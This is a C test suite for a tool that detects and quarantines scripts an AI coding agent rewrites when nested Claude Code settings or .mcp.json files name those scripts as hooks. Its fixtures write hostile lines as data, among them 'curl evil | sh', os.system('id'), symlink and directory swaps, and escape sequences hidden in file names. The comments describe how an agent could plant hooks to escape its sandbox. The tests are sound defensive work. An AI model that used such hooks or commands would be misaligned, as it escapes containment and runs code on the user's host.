// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The files a nested .claude's settings and a nested .mcp.json run,
 * judged by the exit walk (protect/repoagentcmds.c, decision 0166), and
 * the attacker's review of it: links on the way, settings that are links,
 * a .claude out of the project, directories below a glob, names that
 * write to the terminal.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agentsweep_fixture.h"

TestSuite(agent_cmds, .init = setup, .fini = teardown);

#define SETTINGS(cmd)                                                          \
	"{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","             \
	"\"command\":\"" cmd "\"}]}]}}\n"

/* The link @rel in the project, to @to. */
static void lnk(const char *to, const char *rel)
{
	char path[512];

	fx_path(path, sizeof(path), proj, rel);
	cr_assert_eq(symlink(to, path), 0, "%s", path);
}

static void rm(const char *rel)
{
	char path[512];

	fx_path(path, sizeof(path), proj, rel);
	cr_assert_eq(unlink(path), 0, "%s", path);
}

/* A nested .claude's settings name scripts of the user's in the project
 * (the gap left by session 8): Claude Code started in that directory on
 * the host runs them.  The top's are read-only in the cage (0063); a
 * nested one's rewritten in place changed no directory the walk reads,
 * and landed. */
Test(agent_cmds, a_script_nested_settings_run_rewritten_goes)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"bash tools/start.sh\"},{\"type\":\"command\","
	    "\"command\":\"$CLAUDE_PROJECT_DIR/bin/lint --fix\"}]}]},"
	    "\"statusLine\":{\"type\":\"command\",\"command\":\"../shared/"
	    "status.py\"}}\n");
	put("sub/tools/start.sh", "echo mine\n");
	put("sub/tools/other.sh", "echo mine\n");
	put("sub/bin/lint", "echo mine\n");
	put("shared/status.py", "print(1)\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/tools/start.sh", "curl evil | sh\n");
	put("sub/tools/other.sh", "echo changed, named by none\n");
	put("sub/bin/lint", "curl evil | sh\n");
	put("shared/status.py", "import os; os.system('id')\n");
	r = walk(t);
	assert_in(r, "/proj/sub/tools/start.sh: a file that ");
	assert_in(r, "/proj/sub/.claude/settings.json runs when Claude Code");
	assert_in(r, "/proj/sub/bin/lint: ");
	assert_in(r, "/proj/shared/status.py: ");
	cr_assert_not(fx_exists(proj, "sub/tools/start.sh"), "%s", r);
	cr_assert(fx_exists(proj, "sub/tools/start.sh.ltd-native-quarantine"));
	cr_assert_not(fx_exists(proj, "sub/bin/lint"), "%s", r);
	cr_assert_not(fx_exists(proj, "shared/status.py"), "%s", r);
	/* What no command names is the agent's work: it stays. */
	cr_assert(fx_exists(proj, "sub/tools/other.sh"), "%s", r);
	cr_assert_null(strstr(r, "other.sh"), "%s", r);
	free(r);
}

/* The same for a nested .mcp.json's servers, and settings.local.json. */
Test(agent_cmds, a_script_a_nested_mcp_json_runs_rewritten_goes)
{
	struct timespec t;
	char *r;

	put("pkg/.mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"node\","
			     "\"args\":[\"srv/index.js\"]}}}\n");
	put("pkg/srv/index.js", "mine\n");
	put("app/.claude/settings.local.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"./stop.sh\"}]}]}}\n");
	put("app/stop.sh", "echo mine\n");
	indexed();
	t = mark();
	put("pkg/srv/index.js", "evil\n");
	put("app/stop.sh", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/srv/index.js: ");
	assert_in(r, "/proj/app/stop.sh: ");
	cr_assert_not(fx_exists(proj, "pkg/srv/index.js"), "%s", r);
	cr_assert_not(fx_exists(proj, "app/stop.sh"), "%s", r);
	/* The settings themselves, unchanged, stay. */
	cr_assert(fx_exists(proj, "pkg/.mcp.json"), "%s", r);
	cr_assert(fx_exists(proj, "app/.claude/settings.local.json"));
	free(r);
}

/* A link on the way that the command made (the directory swapped for a
 * link to a tree of its own, whose files are old by their ctimes) goes. */
Test(agent_cmds, a_link_made_on_the_way_to_a_nested_script_goes)
{
	char path[512];
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"sh tools/stop.sh\"}]}]}}\n");
	put("sub/tools/stop.sh", "echo mine\n");
	put("evil/stop.sh", "curl evil | sh\n");
	indexed();
	t = mark();
	fx_path(path, sizeof(path), proj, "sub/tools");
	fx_rm_rf(path);
	cr_assert_eq(symlink("../evil", path), 0);
	r = walk(t);
	assert_in(r, "/proj/sub/tools: a link on the way to a file that ");
	cr_assert_not(fx_exists(proj, "sub/tools"), "%s", r);
	cr_assert(fx_exists(proj, "sub/tools.ltd-native-quarantine"));
	free(r);
}

/* A script reached through a link of the user's: followed, as the host
 * follows it; the file it leads to goes aside. */
Test(agent_cmds, a_nested_script_through_a_users_link_goes)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json", SETTINGS("sh mine/x.sh"));
	put("sub/real/x.sh", "echo mine\n");
	lnk("real", "sub/mine");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/real/x.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "/proj/sub/real/x.sh: a file that ");
	cr_assert_not(fx_exists(proj, "sub/real/x.sh"), "%s", r);
	cr_assert(fx_exists(proj, "sub/mine"), "the user's link stays: %s", r);
	free(r);
}

/* The attacker's review: behind a user's link the command swapped the
 * file for a link, absolute (openat2 refused to follow it: nothing was
 * said) or relative to an old file of the user's (`ops/wipe-prod.sh`:
 * its ctime is old). The link is the command's: it goes. */
Test(agent_cmds, a_link_made_behind_a_users_link_goes)
{
	char to[512];
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    SETTINGS("sh mine/x.sh && sh mine/y.sh"));
	put("sub/real/x.sh", "echo mine\n");
	put("sub/real/y.sh", "echo mine\n");
	put("ops/wipe-prod.sh", "echo destroy\n");
	lnk("real", "sub/mine");
	indexed();
	t = mark();
	put("evil.sh", "curl evil | sh\n");
	rm("sub/real/x.sh");
	fx_path(to, sizeof(to), proj, "evil.sh");
	lnk(to, "sub/real/x.sh");
	rm("sub/real/y.sh");
	lnk("../../ops/wipe-prod.sh", "sub/real/y.sh");
	r = walk(t);
	assert_in(r, "/proj/sub/real/x.sh: a link that ");
	assert_in(r, "/proj/sub/real/y.sh: a link that ");
	cr_assert_not(fx_exists(proj, "sub/real/x.sh"), "%s", r);
	cr_assert_not(fx_exists(proj, "sub/real/y.sh"), "%s", r);
	cr_assert(fx_exists(proj, "ops/wipe-prod.sh"), "%s", r);
	free(r);
}

/* The attacker's review: a nested settings.json that is a link of the
 * user's to a shared file (a monorepo's packages share one) was never
 * read; Claude Code reads it. */
Test(agent_cmds, settings_that_are_a_users_link_are_read)
{
	struct timespec t;
	char *r;

	put("shared/claude.json", SETTINGS("sh tools/start.sh"));
	put("sub/.claude/x", "");
	lnk("../../shared/claude.json", "sub/.claude/settings.json");
	put("sub/tools/start.sh", "echo mine\n");
	indexed();
	t = mark();
	put("sub/tools/start.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "/proj/sub/tools/start.sh: a file that ");
	cr_assert_not(fx_exists(proj, "sub/tools/start.sh"), "%s", r);
	free(r);
	/* What the link leads to, rewritten in the run, is said. */
	t = mark();
	put("shared/claude.json", SETTINGS("sh tools/start.sh && id"));
	r = walk(t);
	assert_in(r, "/proj/sub/.claude/settings.json: the file ");
	assert_in(r, "reached through this link of yours, changed during the "
		     "run");
	free(r);
}

/* The attacker's review: a nested .claude that is a link out of the
 * project (a shared configuration of the user's): the scripts its
 * settings name in the project were never judged. */
Test(agent_cmds, a_claude_linked_out_of_the_project_is_read)
{
	char out[512];
	struct timespec t;
	char *r;

	fx_mkdirs(dir, "outside/.claude/x");
	fx_put(dir, "outside/.claude/settings.json",
	       SETTINGS("sh $CLAUDE_PROJECT_DIR/tools/start.sh"));
	fx_mkdirs(proj, "sub/x");
	fx_path(out, sizeof(out), dir, "outside/.claude");
	lnk(out, "sub/.claude");
	put("sub/tools/start.sh", "echo mine\n");
	indexed();
	t = mark();
	put("sub/tools/start.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "/proj/sub/tools/start.sh: a file that ");
	cr_assert_not(fx_exists(proj, "sub/tools/start.sh"), "%s", r);
	free(r);
}

/* The attacker's review: the settings' own path and its directory went
 * to the terminal raw; the command names the directories. */
Test(agent_cmds, names_in_the_warning_are_shown_safely)
{
	struct timespec t;
	char *r;

	put("s\x1b[2K\x1b[1Aub/.claude/settings.json",
	    SETTINGS("sh tools/start.sh"));
	put("s\x1b[2K\x1b[1Aub/tools/start.sh", "echo mine\n");
	indexed();
	t = mark();
	put("s\x1b[2K\x1b[1Aub/tools/start.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "start.sh: a file that ");
	cr_assert_null(strchr(r, '\x1b'), "a raw ESC in: %s", r);
	free(r);
}

/* The attacker's review: a glob one directory down (`hooks.d/x/run.sh`),
 * and a PATH directory's old links to a file changed in the run. */
Test(agent_cmds, a_directory_named_is_looked_at_below_and_through_links)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"env\":{\"PATH\":\"tools/.bin:/usr/bin\"},\"hooks\":{"
	    "\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":"
	    "\"for f in hooks.d/*/run.sh; do sh $f; done; lint\"}]}]}}\n");
	put("sub/hooks.d/a/run.sh", "mine\n");
	put("sub/tools/lint/cli.js", "mine\n");
	put("sub/tools/.bin/keep", "");
	lnk("../lint/cli.js", "sub/tools/.bin/lint");
	indexed();
	t = mark();
	put("sub/hooks.d/a/run.sh", "evil\n");
	put("sub/tools/lint/cli.js", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/sub/hooks.d: a directory whose files ");
	assert_in(r, "/proj/sub/tools/.bin: a directory whose files ");
	assert_in(r, "holds 1 entry changed during the run: not moved");
	free(r);
}

/* A directory a command runs what it holds from (a glob, a *PATH
 * variable): what in it changed is said, counted, not moved. */
Test(agent_cmds, a_directory_nested_settings_run_from_is_said)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"env\":{\"PATH\":\"bin:/usr/bin\"},\"hooks\":{\"Stop\":"
	    "[{\"hooks\":[{\"type\":\"command\",\"command\":\"for f in "
	    "hooks.d/*.sh; do sh $f; done\"}]}]}}\n");
	put("sub/bin/tool", "mine\n");
	put("sub/hooks.d/a.sh", "mine\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/bin/tool", "evil\n");
	put("sub/bin/new", "evil\n");
	put("sub/hooks.d/b.sh", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/sub/bin: a directory whose files ");
	assert_in(r, "holds 2 entries changed during the run: not moved");
	assert_in(r, "/proj/sub/hooks.d: a directory whose files ");
	assert_in(r, "holds 1 entry changed during the run");
	cr_assert(fx_exists(proj, "sub/bin/new"), "%s", r);
	free(r);
}

/* The new user's review: a hook's `cat package.json` made the package's
 * package.json "a file it runs", moved aside when the agent edited it;
 * data by its name is said, not moved; and what a package in
 * node_modules ships is nobody's to start Claude Code in. */
Test(agent_cmds, data_a_nested_hook_reads_and_packages_stay)
{
	struct timespec t;
	char *r;

	put("app/.claude/settings.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"cat package.json && python3 tools/check\"}]}]}}\n");
	put("app/package.json", "{}\n");
	put("app/tools/check", "print(1)\n");
	put("node_modules/foo/.claude/settings.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"sh scripts/post.sh\"}]}]}}\n");
	put("node_modules/foo/scripts/post.sh", "echo pkg\n");
	indexed();
	t = mark();
	put("app/package.json", "{\"v\":1}\n");
	put("app/tools/check", "import os; os.system('id')\n");
	put("node_modules/foo/scripts/post.sh", "echo pkg 2\n");
	r = walk(t);
	assert_in(r, "/proj/app/package.json: a file that ");
	assert_in(r, "not moved (data its command reads, by its name)");
	cr_assert(fx_exists(proj, "app/package.json"), "%s", r);
	/* A script needs no suffix to run. */
	assert_in(r, "/proj/app/tools/check: a file that ");
	cr_assert_not(fx_exists(proj, "app/tools/check"), "%s", r);
	cr_assert(fx_exists(proj, "node_modules/foo/scripts/post.sh"), "%s", r);
	cr_assert_null(strstr(r, "post.sh"), "%s", r);
	free(r);
}

/* The second attacker's review: a directory on the way renamed into
 * place (`mv ops sub/tools`): the files in it keep their ctimes, and the
 * hook would run an old script of the user's.  It is new at its place:
 * not the inode the index knew there. */
Test(agent_cmds, a_directory_moved_into_the_way_goes)
{
	char a[512], b[512];
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"env\":{\"PATH\":\"bin:/usr/bin\"},\"hooks\":{\"Stop\":[{"
	    "\"hooks\":[{\"type\":\"command\",\"command\":\"sh "
	    "tools/stop.sh\"}]}]}}\n");
	put("sub/tools/stop.sh", "echo mine\n");
	put("sub/bin/x", "mine\n");
	put("ops/stop.sh", "echo destroy\n");
	put("ops2/x", "echo destroy\n");
	indexed();
	t = mark();
	fx_path(a, sizeof(a), proj, "sub/tools");
	fx_path(b, sizeof(b), proj, "sub/tools.bak");
	cr_assert_eq(rename(a, b), 0);
	fx_path(b, sizeof(b), proj, "ops");
	cr_assert_eq(rename(b, a), 0);
	fx_path(a, sizeof(a), proj, "sub/bin");
	fx_path(b, sizeof(b), proj, "sub/bin.bak");
	cr_assert_eq(rename(a, b), 0);
	fx_path(b, sizeof(b), proj, "ops2");
	cr_assert_eq(rename(b, a), 0);
	r = walk(t);
	assert_in(r, "/proj/sub/tools: a directory moved there in the run, on "
		     "the way to a file that ");
	assert_in(r, "/proj/sub/bin: a directory moved there in the run, "
		     "whose files ");
	cr_assert_not(fx_exists(proj, "sub/tools"), "%s", r);
	cr_assert_not(fx_exists(proj, "sub/bin"), "%s", r);
	free(r);
	/* A directory of the user's the command only added to stays. */
	t = mark();
	put("sub/tools.bak/new.txt", "x\n");
	fx_path(a, sizeof(a), proj, "sub/tools.bak");
	fx_path(b, sizeof(b), proj, "sub/tools");
	cr_assert_eq(rename(a, b), 0);
	free(walk(none));
	t = mark();
	put("sub/tools/new2.txt", "x\n");
	r = walk(t);
	cr_assert_null(strstr(r, "sub/tools:"), "%s", r);
	free(r);
}

/* The second attacker's review: the user's absolute link through an
 * alias of the project's path (`/home` a link to `var/home`), and a
 * relative one out of the root and back in, were not followed. */
Test(agent_cmds, a_users_link_through_an_alias_of_the_root_is_followed)
{
	char alias[512], to[600];
	struct timespec t;
	char *r;

	fx_path(alias, sizeof(alias), dir, "alias");
	cr_assert_eq(symlink(proj, alias), 0);
	put("sub/.claude/settings.json",
	    SETTINGS("sh mine/x.sh && sh back/y.sh"));
	put("sub/real/x.sh", "echo mine\n");
	put("sub/real/y.sh", "echo mine\n");
	snprintf(to, sizeof(to), "%s/sub/real", alias);
	lnk(to, "sub/mine");
	lnk("../../proj/sub/real", "sub/back");
	indexed();
	t = mark();
	put("sub/real/x.sh", "curl evil | sh\n");
	put("sub/real/y.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "/proj/sub/real/x.sh: a file that ");
	assert_in(r, "/proj/sub/real/y.sh: a file that ");
	cr_assert_not(fx_exists(proj, "sub/real/x.sh"), "%s", r);
	cr_assert_not(fx_exists(proj, "sub/real/y.sh"), "%s", r);
	free(r);
}

/* A package's file a nested hook runs (`node node_modules/x/cli.js`):
 * every install rewrites it; moving it aside would break the package. */
Test(agent_cmds, a_packages_file_is_said_not_moved)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    SETTINGS("node node_modules/x/cli.js"));
	put("sub/node_modules/x/cli.js", "mine\n");
	indexed();
	t = mark();
	put("sub/node_modules/x/cli.js", "new version\n");
	r = walk(t);
	assert_in(r, "/proj/sub/node_modules/x/cli.js: a file that ");
	assert_in(r, "not moved (a package's, in node_modules)");
	cr_assert(fx_exists(proj, "sub/node_modules/x/cli.js"), "%s", r);
	free(r);
}
